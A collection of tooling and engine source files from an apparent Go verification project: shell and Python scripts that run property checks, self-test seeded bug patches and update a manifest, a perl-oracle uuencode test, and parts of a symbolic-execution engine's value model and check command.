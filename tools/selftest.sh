#!/bin/sh
# Applies every seeded change under seeded/*/ to /repo in turn, runs the quick check(s) recorded in its
# meta.json, expects exit 1 with a VIOLATION line, and reverts.  Finally expects the unchanged tree clean.
# Not a registered property check; run by hand (takes a while).
cd "$(dirname "$0")/.."
fail=0
for d in seeded/*/; do
  n=$(basename $d)
  [ -n "$1" ] && case "$n" in $1*) ;; *) continue;; esac
  git -C /repo apply "$d/patch.diff" || { echo "SELFTEST $n: patch does not apply"; fail=1; continue; }
  det=no
  for id in $(python3 -c "import json;print(' '.join(json.load(open('$d/meta.json'))['detecting_checks']))"); do
    out=$(timeout 1800 bin/check $id --tier quick 2>&1); rc=$?
    if [ $rc -eq 1 ] && echo "$out" | grep -q "^VIOLATION property=$id"; then det="yes($id)"; fi
  done
  git -C /repo apply -R "$d/patch.diff"
  echo "SELFTEST $n: detected=$det"
  [ "$det" = no ] && fail=1
done
[ -n "$(git -C /repo status --short)" ] && { echo "SELFTEST: /repo not clean"; fail=1; }
exit $fail
