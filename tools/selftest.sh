#!/bin/sh
# Applies every seeded change under seeded/*/ in turn to a scratch worktree of /repo's HEAD, runs the quick
# check(s) recorded in its meta.json against that worktree, expects exit 1 with a VIOLATION line, and reverts.
# Not a registered property check; run by hand (takes a while).  usage: tools/selftest.sh [name-prefix]
cd "$(dirname "$0")/.."
ROOT=$PWD
WT=$(mktemp -d /tmp/selftest-repo.XXXXXX); rmdir $WT
git -C /repo worktree add -q $WT HEAD || exit 2
trap 'git -C /repo worktree remove --force $WT' EXIT
fail=0
for d in seeded/*/; do
  n=$(basename $d)
  [ -n "$1" ] && case "$n" in $1*) ;; *) continue;; esac
  git -C $WT apply "$ROOT/$d/patch.diff" || { echo "SELFTEST $n: patch does not apply"; fail=1; continue; }
  det=no
  for id in $(python3 -c "import json;print(' '.join(json.load(open('$d/meta.json'))['detecting_checks']))"); do
    out=$(timeout 1800 bin/check $id --tier quick --repo $WT 2>&1); rc=$?
    if [ $rc -eq 1 ] && echo "$out" | grep -q "^VIOLATION property=$id"; then det="yes($id)"; fi
  done
  git -C $WT apply -R "$ROOT/$d/patch.diff"
  echo "SELFTEST $n: detected=$det"
  [ "$det" = no ] && fail=1
done
exit $fail
