#!/bin/sh
# usage: tools/try_seed.sh <seed dir with patch.diff and *_test.go> <pkg dir of demo> <demo run regex> <check IDs...>
# 1. confirms in a scratch worktree: suite passes with the patch, demo fails with it and passes without;
# 2. applies the patch to /repo, runs the named checks (quick), reverts.
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
SD=$1; PKG=$2; RUN=$3; shift 3
WT=/tmp/seedverify.$$
git -C /repo worktree add -q $WT HEAD || exit 2
cd $WT
echo "--- demo WITHOUT patch (must pass):"
cp $SD/*_test.go $WT/$PKG/ 2>/dev/null
go test -vet=off -count=1 -run "$RUN" ./$PKG 2>&1 | tail -2
git apply $SD/patch.diff || { echo "patch does not apply"; git -C /repo worktree remove --force $WT; exit 2; }
echo "--- demo WITH patch (must fail):"
go test -vet=off -count=1 -run "$RUN" ./$PKG 2>&1 | tail -2
rm -f $WT/$PKG/*demo*_test.go
for f in $SD/*_test.go; do rm -f $WT/$PKG/$(basename $f); done
echo "--- suite WITH patch (must pass):"
go build ./... && go test -vet=off -count=1 ./... 2>&1 | grep -v "no test files" | grep -v "^ok" ; echo "suite rc=$?  (1 = no failing package lines)"
cd /verif
git -C /repo worktree remove --force $WT
[ -n "$NOAPPLY" ] && exit 0   # NOAPPLY=1: only the confirmation in the scratch worktree
echo "--- checks on /repo with the patch applied:"
git -C /repo apply $SD/patch.diff || exit 2
for id in "$@"; do
  timeout 1800 bin/check $id --tier quick 2>&1 | grep -E "^check|VIOLATION|ENGINE-ERROR|INCONCLUSIVE|KNOWN" | cut -c1-220 | head -8
done
git -C /repo apply -R $SD/patch.diff
git -C /repo status --short
