#!/usr/bin/env python3
"""fill_must_reach.py ID... -- run the quick check with VERIF_DUMP_REACH=1 and record the labels reached on the
current tree as must_reach witnesses of the matching quick AND thorough job specs (matched by pkg+entry+sweep+params index order)."""
import json,subprocess,sys,os
for pid in sys.argv[1:]:
    p='/verif/checks/%s.json'%pid
    spec=json.load(open(p))
    env=dict(os.environ,VERIF_DUMP_REACH='1')
    out=subprocess.run(['/verif/bin/check',pid,'--tier','quick'],capture_output=True,text=True,env=env).stdout
    dumps=[json.loads(l.split(' ',1)[1]) for l in out.splitlines() if l.startswith('REACH-DUMP ')]
    i=0
    for g in spec['groups']:
        for j in g['quick']:
            if i>=len(dumps): break
            d=dumps[i]; i+=1
            assert d['entry']==j['entry'],(d,j)
            labs=[l for l in d['reached']]
            if labs:
                j['must_reach']=labs
                # same entry in thorough gets the same witnesses (thorough bounds include the quick ones)
                for t in g.get('thorough',[]):
                    if t['entry']==j['entry'] and 'must_reach' not in t:
                        t['must_reach']=labs
    json.dump(spec,open(p,'w'),indent=1)
    print(pid,'ok',i,'job specs')
