#!/usr/bin/env python3
"""Regenerates the seeded-changes table of DESIGN.md section 0.8 from seeded/*/meta.json."""
import json,glob,re,os
root=os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
rows=[]; stats={'asis':0,'after':0,'sibling':0}
for f in sorted(glob.glob(root+'/seeded/*/meta.json')):
    m=json.load(open(f)); n=f.split('/')[-2]
    d=m['detected']
    if d.startswith('yes') and 'after' in d[:40]: stats['after']+=1
    elif d.startswith('yes'): stats['asis']+=1
    else: stats['sibling']+=1
    esc=lambda s: s.replace('|','\\|').replace('\n',' ')
    rows.append("| `%s` | %s | %s | %s | %s |"%(n,m['breaks_property'],esc(m['needs_to_manifest']),esc(d),esc(m['caught_by'])))
p=root+'/DESIGN.md'
s=open(p).read()
hdr="| Seed | Property | Needs, in order to manifest | Detected | Caught by |\n|---|---|---|---|---|\n"
a=s.index(hdr)+len(hdr)
b=s.index("\nLessons from the misses",a)
s=s[:a]+"\n".join(rows)+"\n"+s[b:]
open(p,'w').write(s)
print(len(rows),stats)
