#!/bin/sh
# usage: tools/solver_diff.sh [IDs...] — run the quick tier of each check against a scratch worktree of /repo's HEAD
# with every job's solver replaced by z3 4.8.12, z3 5.1.0 and cvc5 in turn; the verdict lines must agree.
# (Run against a worktree so that evidence/ is not touched.)
cd "$(dirname "$0")/.."
WT=$(mktemp -d /tmp/solverdiff-repo.XXXXXX); rmdir $WT
git -C /repo worktree add -q $WT HEAD || exit 2
trap 'git -C /repo worktree remove --force $WT' EXIT
IDS=${@:-$(python3 -c "import json;print(' '.join(c['property_id'] for c in json.load(open('MANIFEST.json'))['checks']))")}
bad=0
for id in $IDS; do
  line=""
  for sv in z3 z3-new cvc5; do
    out=$(VERIF_SOLVER=$sv timeout 1800 bin/check $id --tier quick --repo $WT 2>&1); rc=$?
    v=$(echo "$out" | grep '^check ' | sed 's/.*\(violations=[0-9]*\) \(inconclusive=[0-9]*\).*wall=\(.*\)/\1 \2 \3/')
    line="$line | $sv rc=$rc $v"
    [ $rc -ne 0 ] && bad=1
  done
  echo "$id$line"
done
exit $bad
