package uu

// Oracle validation: the harness's refPack / refUnpack against the real /usr/bin/perl, and the
// real AppendEncode / AppendDecode against perl as well, on lengths 0..300 with seeded contents.

import (
	"bytes"
	"encoding/hex"
	"fmt"
	"math/rand"
	"os/exec"
	"strings"
	"testing"
)

func TestVerifPerlOracle(t *testing.T) {
	if _, err := exec.LookPath("perl"); err != nil {
		t.Skip("no perl")
	}
	rng := rand.New(rand.NewSource(20261001))
	var vecs [][]byte
	for n := 0; n <= 300; n++ {
		b := make([]byte, n)
		switch n % 3 {
		case 0:
			rng.Read(b)
		case 1: // many zero sextets / backticks
			for i := range b {
				b[i] = byte(rng.Intn(4)) << 6
			}
		default:
			for i := range b {
				b[i] = byte(32 + rng.Intn(96))
			}
		}
		vecs = append(vecs, b)
	}
	var in strings.Builder
	for _, v := range vecs {
		in.WriteString(hex.EncodeToString(v) + "\n")
	}
	// perl prints, per vector, hex(pack('u', v)) and hex(unpack('u', pack('u', v)))
	cmd := exec.Command("perl", "-ne", `chomp; my $v = pack("H*", $_); my $e = pack("u", $v); print unpack("H*", $e), " ", unpack("H*", unpack("u", $e)), "\n";`)
	cmd.Stdin = strings.NewReader(in.String())
	out, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimRight(string(out), "\n"), "\n")
	if len(lines) != len(vecs) {
		t.Fatalf("perl returned %d lines for %d vectors", len(lines), len(vecs))
	}
	for i, v := range vecs {
		parts := strings.SplitN(lines[i], " ", 2)
		pe, _ := hex.DecodeString(parts[0])
		pd := []byte{}
		if len(parts) > 1 {
			pd, _ = hex.DecodeString(parts[1])
		}
		if !bytes.Equal(refPack(v), pe) {
			t.Fatalf("refPack differs from perl at n=%d", len(v))
		}
		if !bytes.Equal(AppendEncode(nil, v), pe) {
			t.Fatalf("AppendEncode differs from perl at n=%d", len(v))
		}
		if !bytes.Equal(refUnpack(pe), v) || !bytes.Equal(pd, v) {
			t.Fatalf("refUnpack / perl unpack differ at n=%d", len(v))
		}
		d, err := AppendDecode(nil, pe)
		if err != nil || !bytes.Equal(d, v) {
			t.Fatalf("AppendDecode of perl output differs at n=%d: %v", len(v), err)
		}
	}
	fmt.Printf("PERL-ORACLE: %d vectors agree\n", len(vecs))
}
