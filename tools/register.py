#!/usr/bin/env python3
"""register.py ID category "level text" "level note" "technique" [design_ref] -- add/replace a check in MANIFEST.json"""
import json,sys
pid,cat,text,note,tech=sys.argv[1:6]
ref=sys.argv[6] if len(sys.argv)>6 else "DESIGN.md §4 "+pid
m=json.load(open('/verif/MANIFEST.json'))
m['checks']=[c for c in m['checks'] if c['property_id']!=pid]+[{
 "property_id":pid,
 "quick_cmd":"/verif/bin/check %s --tier quick"%pid,
 "thorough_cmd":"/verif/bin/check %s --tier thorough"%pid,
 "evidence_file":"/verif/evidence/%s.json"%pid,
 "replay_cmd_template":"/verif/bin/symgo replay {path}",
 "engine":"symgo",
 "level_claimed":{"category":cat,"text":text,"design_ref":ref},
 "level_note":note,
 "technique":tech}]
m['checks'].sort(key=lambda c:c['property_id'])
m['not_applicable']=[n for n in m.get('not_applicable',[]) if n['property_id']!=pid]
m['engines'][0]['serves_properties']=sorted(set(m['engines'][0]['serves_properties']+[pid]))
json.dump(m,open('/verif/MANIFEST.json','w'),indent=1)
print("registered",pid)
