#!/bin/sh
# Validates the Perl reference models used by the C15/C16 harnesses (refPack, refUnpack) and the
# real lib/uu against /usr/bin/perl on concrete vectors.  Not part of any registered check.
set -e
ROOT="$(cd "$(dirname "$0")/.." && pwd)"
T=$(mktemp -d); trap 'rm -rf "$T"' EXIT
sed 's/package PKG/package uu/' "$ROOT/harness/common/verif_native.go.tmpl" > "$T/native.go"
cat > "$T/ov.json" <<EOJ
{"Replace":{"/repo/lib/uu/zz_verif_native.go":"$T/native.go","/repo/lib/uu/zz_verif_c15.go":"$ROOT/harness/lib_uu/c15.go","/repo/lib/uu/zz_verif_oracle_test.go":"$ROOT/tools/perl_oracle/oracle_test.go"}}
EOJ
cd /repo && GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test -vet=off -count=1 -overlay "$T/ov.json" -run TestVerifPerlOracle -v ./lib/uu | grep -E "PERL-ORACLE|ok|FAIL|---"
