#!/bin/sh
# usage: tools/time_thorough.sh [IDs...] — run thorough checks one after another, log status lines to out/thorough.log
cd "$(dirname "$0")/.."
mkdir -p out
IDS=${@:-$(python3 -c "import json;print(' '.join(c['property_id'] for c in json.load(open('MANIFEST.json'))['checks']))")}
for id in $IDS; do
  s=$(date +%s)
  out=$(timeout ${THOROUGH_TIMEOUT:-3600} bin/check $id --tier thorough 2>&1); rc=$?
  e=$(date +%s)
  { echo "$id rc=$rc $((e-s))s $(echo "$out" | grep '^check ' | head -1 | cut -c1-220)"; [ $rc -ne 0 ] && echo "$out" | grep -v '^check ' | grep -v "^  " | head -8; } | tee -a out/thorough.log
done
