#!/usr/bin/env python3
"""keep_seed.py <name> <seed dir> <property> <detected: yes|no|partial> <caught_by> <needs> -- copy a confirmed seeded change into /verif/seeded/<name>/"""
import sys,os,shutil,json,glob
name,sd,prop,det,by,needs=sys.argv[1:7]
d='/verif/seeded/'+name
os.makedirs(d,exist_ok=True)
for f in glob.glob(sd+'/*'):
    if os.path.isfile(f): shutil.copy(f,d)
meta={"breaks_property":prop,"needs_to_manifest":needs,
 "confirmed":"scratch worktree: full suite passes with the patch; demonstration fails with it and passes without (tools/try_seed.sh)",
 "ran":"git -C /repo apply patch.diff; bin/check %s --tier quick; git -C /repo apply -R patch.diff"%prop,
 "detected":det,"caught_by":by,"origin":"sub-agent given only the property text and its own worktree",
 "detecting_checks":sorted(set(__import__("re").findall(r"\bC\d\d\b", by.split(" label")[0]))) or [prop]}
json.dump(meta,open(d+'/meta.json','w'),indent=1)
print("kept",d)
