#!/bin/sh
# usage: tools/run_all.sh [tier] — run every registered check once; print one status line per property
TIER=${1:-quick}
cd "$(dirname "$0")/.."
for id in $(python3 -c "import json;print(' '.join(c['property_id'] for c in json.load(open('MANIFEST.json'))['checks']))"); do
  s=$(date +%s)
  out=$(timeout ${RUNALL_TIMEOUT:-3600} bin/check $id --tier $TIER 2>&1); rc=$?
  e=$(date +%s)
  echo "$id rc=$rc $((e-s))s $(echo "$out" | grep '^check ' | head -1 | cut -c1-200)"
  [ $rc -ne 0 ] && echo "$out" | grep -v '^check ' | head -5
done
