package simpleshell
import ("testing";"os/exec";"io";"context";"time";"strings")
func TestC14Native(t *testing.T){
  bad := 0
  for i:=0;i<20;i++ {
    sh, err := NewCmdShell(exec.Command("sh","-c","printf hello; sleep 0.02; printf world"))
    if err != nil { t.Fatal(err) }
    done := make(chan string,1)
    go func(){ time.Sleep(150*time.Millisecond); b,_ := io.ReadAll(sh.Output()); done <- string(b) }()
    sh.SetInput(strings.NewReader(""))
    sh.Go(context.Background())
    got := <-done
    if len(got) != 10 { bad++ }
  }
  t.Logf("truncated runs: %d/20", bad)
  if bad > 0 { t.Fail() }
}
