package main

// value.go - value and memory model: concrete shape, symbolic leaves.

import (
	"fmt"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"
)

type Value interface{}

// Scalars are *Term.

type StrV struct{ B []*Term }

type SliceV struct {
	Cells  []*Cell // backing cells from this slice's offset to end of capacity
	Len    int
	Nil    bool
	Frozen bool // read-only merged view (capacity unknown)
}

func (s *SliceV) Cap() int { return len(s.Cells) }

type PtrV struct {
	C *Cell // nil => nil pointer
	// for unsafe.SliceData pointers: the slice it came from
	Sl *SliceV
}

type StructV struct{ F []Value }
type ArrayV struct{ E []Value }
type IfaceV struct {
	T types.Type // nil => nil interface
	V Value
}
type FuncV struct {
	Fn      *ssa.Function
	Free    []Value
	Builtin string                               // engine-native function
	Native  func(in *Interp, args []Value) Value // engine closure (e.g. context cancel)
	id      int
}
type MapV struct{ M *MapObj }
type ChanV struct{ C *ChanObj }
type TupleV struct{ E []Value }

// Opaque engine object boxed as a Go pointer value (templates, contexts, timers).
type NativeV struct{ X interface{} }

type MapEntry struct {
	K, V Value
}
type MapObj struct {
	E  []MapEntry
	id int
}

type Cell struct {
	V      Value
	Kids   []*Cell
	T      types.Type
	id     int
	Frozen bool
}

var cellSeq int

func (c *Cell) String() string { return fmt.Sprintf("cell#%d", c.id) }

func isNilFunc(f *FuncV) bool {
	return f == nil || (f.Fn == nil && f.Builtin == "" && f.Native == nil)
}

func intWidth(t types.Type) (w int, signed bool, ok bool) {
	b, isb := t.Underlying().(*types.Basic)
	if !isb {
		return 0, false, false
	}
	switch b.Kind() {
	case types.Int8:
		return 8, true, true
	case types.Int16:
		return 16, true, true
	case types.Int32, types.UntypedRune:
		return 32, true, true
	case types.Int64, types.Int, types.UntypedInt:
		return 64, true, true
	case types.Uint8:
		return 8, false, true
	case types.Uint16:
		return 16, false, true
	case types.Uint32:
		return 32, false, true
	case types.Uint64, types.Uint, types.Uintptr:
		return 64, false, true
	}
	return 0, false, false
}

func isBool(t types.Type) bool {
	b, ok := t.Underlying().(*types.Basic)
	return ok && (b.Kind() == types.Bool || b.Kind() == types.UntypedBool)
}

func isString(t types.Type) bool {
	b, ok := t.Underlying().(*types.Basic)
	return ok && (b.Kind() == types.String || b.Kind() == types.UntypedString)
}

func isFloat(t types.Type) bool {
	b, ok := t.Underlying().(*types.Basic)
	return ok && (b.Info()&types.IsFloat != 0 || b.Info()&types.IsComplex != 0)
}

func strConst(s string) *StrV {
	b := make([]*Term, len(s))
	for i := 0; i < len(s); i++ {
		b[i] = Const(8, uint64(s[i]))
	}
	return &StrV{B: b}
}

func (s *StrV) Concrete() (string, bool) {
	var sb strings.Builder
	for _, t := range s.B {
		if !t.IsConst() {
			return "", false
		}
		sb.WriteByte(byte(t.Val))
	}
	return sb.String(), true
}

func (s *StrV) String() string {
	var sb strings.Builder
	for _, t := range s.B {
		if t.IsConst() {
			if t.Val >= 32 && t.Val < 127 {
				sb.WriteByte(byte(t.Val))
			} else {
				fmt.Fprintf(&sb, "\\x%02x", t.Val)
			}
		} else {
			sb.WriteString("?")
		}
	}
	return sb.String()
}

// zeroValue builds the zero value of a type.
func zeroValue(t types.Type) Value {
	switch u := t.Underlying().(type) {
	case *types.Basic:
		if w, _, ok := intWidth(t); ok {
			return Const(w, 0)
		}
		if isBool(t) {
			return FalseT
		}
		if isString(t) {
			return &StrV{}
		}
		if u.Kind() == types.UnsafePointer {
			return &PtrV{}
		}
		if isFloat(t) {
			return &NativeV{X: float64(0)}
		}
		if u.Kind() == types.UntypedNil {
			return nil
		}
		panic(engineErr("zero value of basic type " + t.String()))
	case *types.Pointer:
		return &PtrV{}
	case *types.Slice:
		return &SliceV{Nil: true}
	case *types.Struct:
		f := make([]Value, u.NumFields())
		for i := range f {
			f[i] = zeroValue(u.Field(i).Type())
		}
		return &StructV{F: f}
	case *types.Array:
		e := make([]Value, u.Len())
		if u.Len() > 0 {
			if _, _, ok := intWidth(u.Elem()); ok {
				w, _, _ := intWidth(u.Elem())
				z := Const(w, 0)
				for i := range e {
					e[i] = z
				}
				return &ArrayV{E: e}
			}
		}
		for i := range e {
			e[i] = zeroValue(u.Elem())
		}
		return &ArrayV{E: e}
	case *types.Interface:
		return &IfaceV{}
	case *types.Signature:
		return &FuncV{}
	case *types.Map:
		return &MapV{}
	case *types.Chan:
		return &ChanV{}
	case *types.Tuple:
		e := make([]Value, u.Len())
		for i := range e {
			e[i] = zeroValue(u.At(i).Type())
		}
		return &TupleV{E: e}
	}
	panic(engineErr("zero value of type " + t.String()))
}

// newCell allocates storage for a value of type t holding v (nil = zero).
func newCell(t types.Type, v Value) *Cell {
	cellSeq++
	c := &Cell{T: t, id: cellSeq}
	switch u := t.Underlying().(type) {
	case *types.Struct:
		c.Kids = make([]*Cell, u.NumFields())
		var sv *StructV
		if v != nil {
			sv = v.(*StructV)
		}
		for i := range c.Kids {
			var fv Value
			if sv != nil {
				fv = sv.F[i]
			}
			c.Kids[i] = newCell(u.Field(i).Type(), fv)
		}
	case *types.Array:
		c.Kids = make([]*Cell, u.Len())
		var av *ArrayV
		if v != nil {
			av = v.(*ArrayV)
		}
		var z Value
		if av == nil && u.Len() > 0 {
			if _, isStruct := u.Elem().Underlying().(*types.Struct); !isStruct {
				if _, isArr := u.Elem().Underlying().(*types.Array); !isArr {
					z = zeroValue(u.Elem())
				}
			}
		}
		for i := range c.Kids {
			var ev Value
			if av != nil {
				ev = av.E[i]
			} else if z != nil {
				cellSeq++
				c.Kids[i] = &Cell{T: u.Elem(), V: z, id: cellSeq}
				continue
			}
			c.Kids[i] = newCell(u.Elem(), ev)
		}
	default:
		if v == nil {
			v = zeroValue(t)
		}
		c.V = v
	}
	return c
}

type EngineError struct{ Msg string }

func (e *EngineError) Error() string    { return e.Msg }
func engineErr(msg string) *EngineError { return &EngineError{Msg: msg} }

func describe(v Value) string {
	switch x := v.(type) {
	case nil:
		return "nil"
	case *Term:
		if x.IsConst() {
			if x.W == 0 {
				return fmt.Sprint(x.Val == 1)
			}
			return fmt.Sprintf("%d", x.Val)
		}
		return fmt.Sprintf("<sym%d>", x.W)
	case *StrV:
		return fmt.Sprintf("%q", x.String())
	case *SliceV:
		if x.Nil {
			return "[]nil"
		}
		return fmt.Sprintf("slice(len=%d,cap=%d)", x.Len, x.Cap())
	case *PtrV:
		if x.C == nil {
			return "nilptr"
		}
		return "&" + x.C.String()
	case *StructV:
		parts := make([]string, len(x.F))
		for i, f := range x.F {
			parts[i] = describe(f)
		}
		return "{" + strings.Join(parts, ",") + "}"
	case *ArrayV:
		return fmt.Sprintf("array(%d)", len(x.E))
	case *IfaceV:
		if x.T == nil {
			return "nil-iface"
		}
		return fmt.Sprintf("iface(%s:%s)", x.T, describe(x.V))
	case *FuncV:
		if x.Fn != nil {
			return "func " + x.Fn.String()
		}
		if x.Builtin != "" {
			return "builtin " + x.Builtin
		}
		if x.Native != nil {
			return "nativefunc"
		}
		return "nilfunc"
	case *MapV:
		return "map"
	case *ChanV:
		return "chan"
	case *TupleV:
		parts := make([]string, len(x.E))
		for i, f := range x.E {
			parts[i] = describe(f)
		}
		return "(" + strings.Join(parts, ",") + ")"
	case *NativeV:
		return fmt.Sprintf("native(%T)", x.X)
	}
	return fmt.Sprintf("%T", v)
}
