package main

// check.go - `symgo check <ID> --tier quick|thorough`: run a property's harness jobs,
// replay counterexamples natively, write evidence, print VIOLATION / KNOWN-FINDING lines.

import (
	"bufio"
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"time"
)

type groupRun struct {
	spec    PkgSpec
	w       *World
	jobs    []*jobState
	canary  []*jobState
	pkgName string
	files   []string // harness source files (absolute)
	tmp     string
}

type replayItem struct {
	ID      string        `json:"id"`
	Entry   string        `json:"entry"`
	Witness NativeWitness `json:"witness"`
}

type replayResult struct {
	Status   string
	Failures []string
	Reached  []string
	Observed []string
}

var pkgClauseRe = regexp.MustCompile(`(?m)^package\s+(\w+)`)

func cmdCheck(args []string) int {
	if len(args) < 1 {
		fmt.Fprintln(os.Stderr, "usage: symgo check <ID> [--tier quick|thorough]")
		return 2
	}
	id := args[0]
	fs := flag.NewFlagSet("check", flag.ExitOnError)
	tier := fs.String("tier", "quick", "")
	repo := fs.String("repo", "/repo", "")
	workers := fs.Int("workers", 16, "")
	verbose := fs.Bool("v", false, "")
	defer func() { evidenceDir = "evidence" }()
	only := fs.String("only", "", "restrict to harness entries containing this substring")
	fs.Parse(args[1:])
	if filepath.Clean(*repo) != "/repo" {
		evidenceDir = "out/evidence-other-tree"
	}
	if t := os.Getenv("VERIF_TIER"); t != "" && !flagSet(fs, "tier") {
		*tier = t
	}
	seed := int64(1)
	if s := os.Getenv("VERIF_SEED"); s != "" {
		if v, err := strconv.ParseInt(s, 10, 64); err == nil {
			seed = v
		}
	}
	root := verifRoot()
	t0 := time.Now()
	specB, err := os.ReadFile(filepath.Join(root, "checks", id+".json"))
	if err != nil {
		fmt.Println("ENGINE-ERROR: cannot read check spec:", err)
		return 2
	}
	var spec CheckSpec
	if err := json.Unmarshal(specB, &spec); err != nil {
		fmt.Println("ENGINE-ERROR: bad check spec:", err)
		return 2
	}
	tmp, err := os.MkdirTemp("", "verif-"+id+"-")
	if err != nil {
		fmt.Println("ENGINE-ERROR:", err)
		return 2
	}
	defer os.RemoveAll(tmp)

	var groups []*groupRun
	var allJobs []*jobState
	type reachReq struct {
		js       JobSpec
		gr       *groupRun
		from, to int
	}
	var mustReach []reachReq
	stopGroups := map[string]*stopGroup{}
	for gi, g := range spec.Groups {
		gr := &groupRun{spec: g, tmp: filepath.Join(tmp, fmt.Sprintf("g%d", gi))}
		os.MkdirAll(gr.tmp, 0o755)
		for _, h := range g.Harness {
			gr.files = append(gr.files, filepath.Join(root, h))
		}
		b, err := os.ReadFile(gr.files[0])
		if err != nil {
			fmt.Println("ENGINE-ERROR:", err)
			return 2
		}
		m := pkgClauseRe.FindSubmatch(b)
		if m == nil {
			fmt.Println("ENGINE-ERROR: no package clause in", gr.files[0])
			return 2
		}
		gr.pkgName = string(m[1])
		decl := filepath.Join(gr.tmp, "decl.go")
		if err := instantiate(filepath.Join(root, "harness/common/verif_decl.go.tmpl"), decl, gr.pkgName); err != nil {
			fmt.Println("ENGINE-ERROR:", err)
			return 2
		}
		declFiles := []string{decl}
		for _, api := range g.API {
			d2 := filepath.Join(gr.tmp, "decl_"+api+".go")
			if err := instantiate(filepath.Join(root, "harness/common/verif_decl_"+api+".go.tmpl"), d2, gr.pkgName); err != nil {
				fmt.Println("ENGINE-ERROR:", err)
				return 2
			}
			declFiles = append(declFiles, d2)
		}
		w, err := LoadWorld(*repo, g.Pkg, append(declFiles, gr.files...), "")
		if err != nil {
			fmt.Println("ENGINE-ERROR: loading", g.Pkg, "with harness:", err)
			writeEvidenceError(root, id, *tier, seed, spec, "tree does not load with harness: "+err.Error(), time.Since(t0))
			return 2
		}
		gr.w = w
		specs := g.Quick
		if *tier == "thorough" && len(g.Thorough) > 0 {
			specs = g.Thorough
		}
		for _, js := range specs {
			if *only != "" && !strings.Contains(js.Entry, *only) {
				continue
			}
			if w.pkg.Func(js.Entry) == nil {
				fmt.Printf("ENGINE-ERROR: harness function %s not found in %s\n", js.Entry, g.Pkg)
				return 2
			}
			sweep := expandSweep(js)
			jobStart := len(gr.jobs)
			defer func(js JobSpec, gr *groupRun, from int) {}(js, gr, jobStart)
			mustReach = append(mustReach, reachReq{js: js, gr: gr, from: jobStart, to: jobStart + len(sweep)})
			for pi, p := range sweep {
				first := pi == len(sweep)-1
				cfg := mkConfig(js, p, *tier)
				j := &jobState{cfg: cfg, w: w, entry: js.Entry, outcomes: map[string]int{}, reaches: map[string]bool{}}
				j.stopAfter, j.countLabel = 24, func(l string) bool { return labelBelongs(spec.Labels, l) }
				sgKey := fmt.Sprintf("%s/%s/%v", g.Pkg, js.Entry, js.NoReplay)
				if stopGroups[sgKey] == nil {
					stopGroups[sgKey] = &stopGroup{}
				}
				j.sg = stopGroups[sgKey]
				gr.jobs = append(gr.jobs, j)
				allJobs = append(allJobs, j)
				if js.Canary && first {
					ccfg := *cfg
					ccfg.Canary = true
					cj := &jobState{cfg: &ccfg, w: w, entry: js.Entry, outcomes: map[string]int{}, reaches: map[string]bool{}}
					cj.stopAfter = 1
					gr.canary = append(gr.canary, cj)
					allJobs = append(allJobs, cj)
				}
			}
		}
		groups = append(groups, gr)
	}
	stats := runJobs(allJobs, *workers, *verbose)

	// ---- aggregate ----
	var (
		paths, asserts, steps, forks, inconcl int
		inconclMsgs                           []string
		outcomes                              = map[string]int{}
		samples                               []interface{}
		jobsRun                               int
		nontrivial                            int
		canaryOK, canaryTotal                 int
		replayed, replayConfirmed             int
		validated                             int
		engineFail                            []string
	)
	type cand struct {
		gr  *groupRun
		j   *jobState
		v   Violation
		key string
	}
	var cands []cand
	funcs := map[string]bool{}
	for _, gr := range groups {
		for _, j := range gr.jobs {
			jobsRun++
			paths += j.paths
			asserts += j.asserts
			steps += j.steps
			forks += j.forks
			for k, v := range j.outcomes {
				outcomes[k] += v
			}
			if j.asserts > 0 {
				nontrivial++
			}
			if len(j.inconcl) > 0 || j.overflow {
				inconcl++
				for _, m := range j.inconcl {
					if len(inconclMsgs) < 8 {
						inconclMsgs = append(inconclMsgs, fmt.Sprintf("%s%v: %s", j.entry, j.cfg.Params, m))
					}
				}
				if j.overflow {
					inconclMsgs = append(inconclMsgs, fmt.Sprintf("%s%v: path budget exceeded", j.entry, j.cfg.Params))
				}
			}
			if len(samples) < 6 && len(j.samples) > 0 {
				samples = append(samples, map[string]interface{}{"harness": j.entry, "params": j.cfg.Params, "paths": j.paths, "obligations_discharged": j.asserts, "outcomes": j.outcomes, "reached": sortedKeys(j.reaches), "first_paths": j.samples})
			}
			// reachability witnesses: every job must reach at least one label unless it found a violation
			if len(j.reaches) == 0 && len(j.viol) == 0 && len(j.inconcl) == 0 {
				engineFail = append(engineFail, fmt.Sprintf("vacuous harness run %s%v: no verifReach label reached", j.entry, j.cfg.Params))
			}
			seen := map[string]bool{}
			for _, v := range j.viol {
				if !labelBelongs(spec.Labels, v.Label) {
					continue
				}
				key := j.entry + "/" + v.Label
				if seen[key] {
					continue
				}
				seen[key] = true
				cands = append(cands, cand{gr, j, v, key})
			}
		}
		for f := range gr.w.instrs {
			funcs[f] = true
		}
	}

	if os.Getenv("VERIF_DUMP_REACH") != "" {
		for _, rr := range mustReach {
			set := map[string]bool{}
			for _, j := range rr.gr.jobs[rr.from:rr.to] {
				for k := range j.reaches {
					set[k] = true
				}
			}
			b, _ := json.Marshal(map[string]interface{}{"pkg": rr.gr.spec.Pkg, "entry": rr.js.Entry, "sweep": rr.js.Sweep, "params": rr.js.Params, "reached": sortedKeys(set)})
			fmt.Println("REACH-DUMP " + string(b))
		}
	}
	for _, rr := range mustReach {
		for _, lbl := range rr.js.MustReach {
			ok := false
			for _, j := range rr.gr.jobs[rr.from:rr.to] {
				if j.reaches[lbl] {
					ok = true
				}
			}
			if !ok {
				engineFail = append(engineFail, fmt.Sprintf("vacuity: no instance of %s reached witness label %s", rr.js.Entry, lbl))
			}
		}
	}
	// ---- canaries: each falsified twin must yield a violation that reproduces natively ----
	var batch = map[*groupRun][]replayItem{}
	type pend struct {
		kind string // "canary","cand","valid"
		ci   int
		j    *jobState
		want []string
	}
	pending := map[string]pend{}
	for _, gr := range groups {
		for ci, cj := range gr.canary {
			canaryTotal++
			if len(cj.viol) == 0 {
				engineFail = append(engineFail, fmt.Sprintf("canary of %s%v was not detected (pipeline cannot see violations)", cj.entry, cj.cfg.Params))
